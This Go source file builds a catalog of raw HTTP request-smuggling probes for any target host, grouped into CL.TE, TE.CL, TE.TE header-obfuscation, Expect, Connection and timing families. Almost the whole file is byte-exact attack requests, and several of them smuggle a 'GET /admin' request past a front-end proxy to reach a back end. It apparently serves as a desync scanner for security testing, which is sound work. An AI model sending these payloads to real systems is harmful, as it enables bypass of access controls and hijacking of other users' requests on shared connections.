package smuggling

import "fmt"

// Family groups probes by the parser discrepancy they target.
type Family string

const (
	FamilyCLTE       Family = "CL.TE"
	FamilyTECL       Family = "TE.CL"
	FamilyTETE       Family = "TE.TE"
	FamilyExpect     Family = "Expect"
	FamilyConnection Family = "Connection"
	FamilyTiming     Family = "Timing"
)

// Probe is one raw request to deliver byte-exactly over the socket.
type Probe struct {
	Name        string `json:"name"`
	Family      Family `json:"family"`
	Raw         string `json:"raw"`
	Description string `json:"description,omitempty"`
}

// CLTEProbes builds probes where the front end honors Content-Length and
// a desync-prone back end honors Transfer-Encoding.
func CLTEProbes(host string) []Probe {
	return []Probe{
		{
			Name:   "CL.TE Basic",
			Family: FamilyCLTE,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: 13\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n"+
				"0\r\n"+
				"\r\n"+
				"SMUGGLED", host),
			Description: "Front end forwards 13 bytes; chunked back end stops at the terminator and leaves SMUGGLED on the wire",
		},
		{
			Name:   "CL.TE Request Split",
			Family: FamilyCLTE,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: 54\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n"+
				"0\r\n"+
				"\r\n"+
				"GET /admin HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Foo: x", host, host),
			Description: "Prefix of a smuggled GET /admin left unterminated on the back-end connection",
		},
	}
}

// TECLProbes builds probes where the front end honors Transfer-Encoding
// and the back end honors Content-Length.
func TECLProbes(host string) []Probe {
	return []Probe{
		{
			Name:   "TE.CL Basic",
			Family: FamilyTECL,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Content-Length: 4\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n"+
				"5c\r\n"+
				"GPOST / HTTP/1.1\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: 15\r\n"+
				"\r\n"+
				"x=1\r\n"+
				"0\r\n"+
				"\r\n", host),
			Description: "Back end reads 4 bytes, leaving a GPOST request in the buffer",
		},
	}
}

// teObfuscations are the Transfer-Encoding header variants whose parsing
// can diverge between a front end and a back end.
var teObfuscations = []struct {
	name   string
	header string
}{
	{"Space Before Colon", "Transfer-Encoding : chunked"},
	{"Tab After Colon", "Transfer-Encoding:\tchunked"},
	{"Case Variation", "Transfer-ENCODING: chunked"},
	{"Double Header", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"},
	{"Vertical Tab", "Transfer-Encoding:\x0bchunked"},
}

// TETEProbes builds probes that obfuscate one of two Transfer-Encoding
// headers so only one hop honors the chunked coding.
func TETEProbes(host string) []Probe {
	probes := make([]Probe, 0, len(teObfuscations))
	for _, obf := range teObfuscations {
		probes = append(probes, Probe{
			Name:   "TE.TE " + obf.name,
			Family: FamilyTETE,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: 13\r\n"+
				"%s\r\n"+
				"\r\n"+
				"0\r\n"+
				"\r\n"+
				"SMUGGLED", host, obf.header),
			Description: "Transfer-Encoding obfuscation: " + obf.name,
		})
	}
	return probes
}

// ExpectProbes build probes abusing Expect: 100-continue handling, where
// an intermediary may forward the body before the back end asked for it.
func ExpectProbes(host string) []Probe {
	return []Probe{
		{
			Name:   "Expect Continue Desync",
			Family: FamilyExpect,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Expect: 100-continue\r\n"+
				"Content-Length: 35\r\n"+
				"\r\n"+
				"GET /admin HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"\r\n", host, host),
			Description: "Body sent without awaiting 100 Continue; a confused hop may treat it as a pipelined request",
		},
		{
			Name:   "Expect Obfuscated Value",
			Family: FamilyExpect,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Expect: 100-Continue \r\n"+
				"Content-Length: 13\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n"+
				"0\r\n"+
				"\r\n"+
				"SMUGGLED", host),
			Description: "Non-canonical Expect value combined with dueling framing headers",
		},
	}
}

// ConnectionProbes build probes that inject hop-by-hop header confusion.
func ConnectionProbes(host string) []Probe {
	return []Probe{
		{
			Name:   "Connection Header Injection",
			Family: FamilyConnection,
			Raw: fmt.Sprintf("GET / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Connection: keep-alive, X-Smuggle\r\n"+
				"X-Smuggle: GET /admin HTTP/1.1\r\n"+
				"\r\n", host),
			Description: "Hop-by-hop listing of a request-bearing header may strip it at one hop only",
		},
		{
			Name:   "Connection Close Pipelined",
			Family: FamilyConnection,
			Raw: fmt.Sprintf("GET / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Connection: close\r\n"+
				"\r\n"+
				"GET /admin HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"\r\n", host, host),
			Description: "Pipelined request after Connection: close; a hop that keeps the connection may serve it",
		},
	}
}

// TimingProbes build probes whose response delay, rather than content,
// signals a desync: an incomplete chunk stalls a chunked-parsing hop.
func TimingProbes(host string) []Probe {
	return []Probe{
		{
			Name:   "Timing Incomplete Chunk",
			Family: FamilyTiming,
			Raw: fmt.Sprintf("POST / HTTP/1.1\r\n"+
				"Host: %s\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: 4\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n"+
				"1\r\n"+
				"Z\r\n"+
				"Q", host),
			Description: "Chunked parser waits for the missing terminator while a Content-Length parser answers",
		},
	}
}

// AllProbes returns the full catalog for a host, grouped family order.
func AllProbes(host string) []Probe {
	var probes []Probe
	probes = append(probes, CLTEProbes(host)...)
	probes = append(probes, TECLProbes(host)...)
	probes = append(probes, TETEProbes(host)...)
	probes = append(probes, ExpectProbes(host)...)
	probes = append(probes, ConnectionProbes(host)...)
	probes = append(probes, TimingProbes(host)...)
	return probes
}
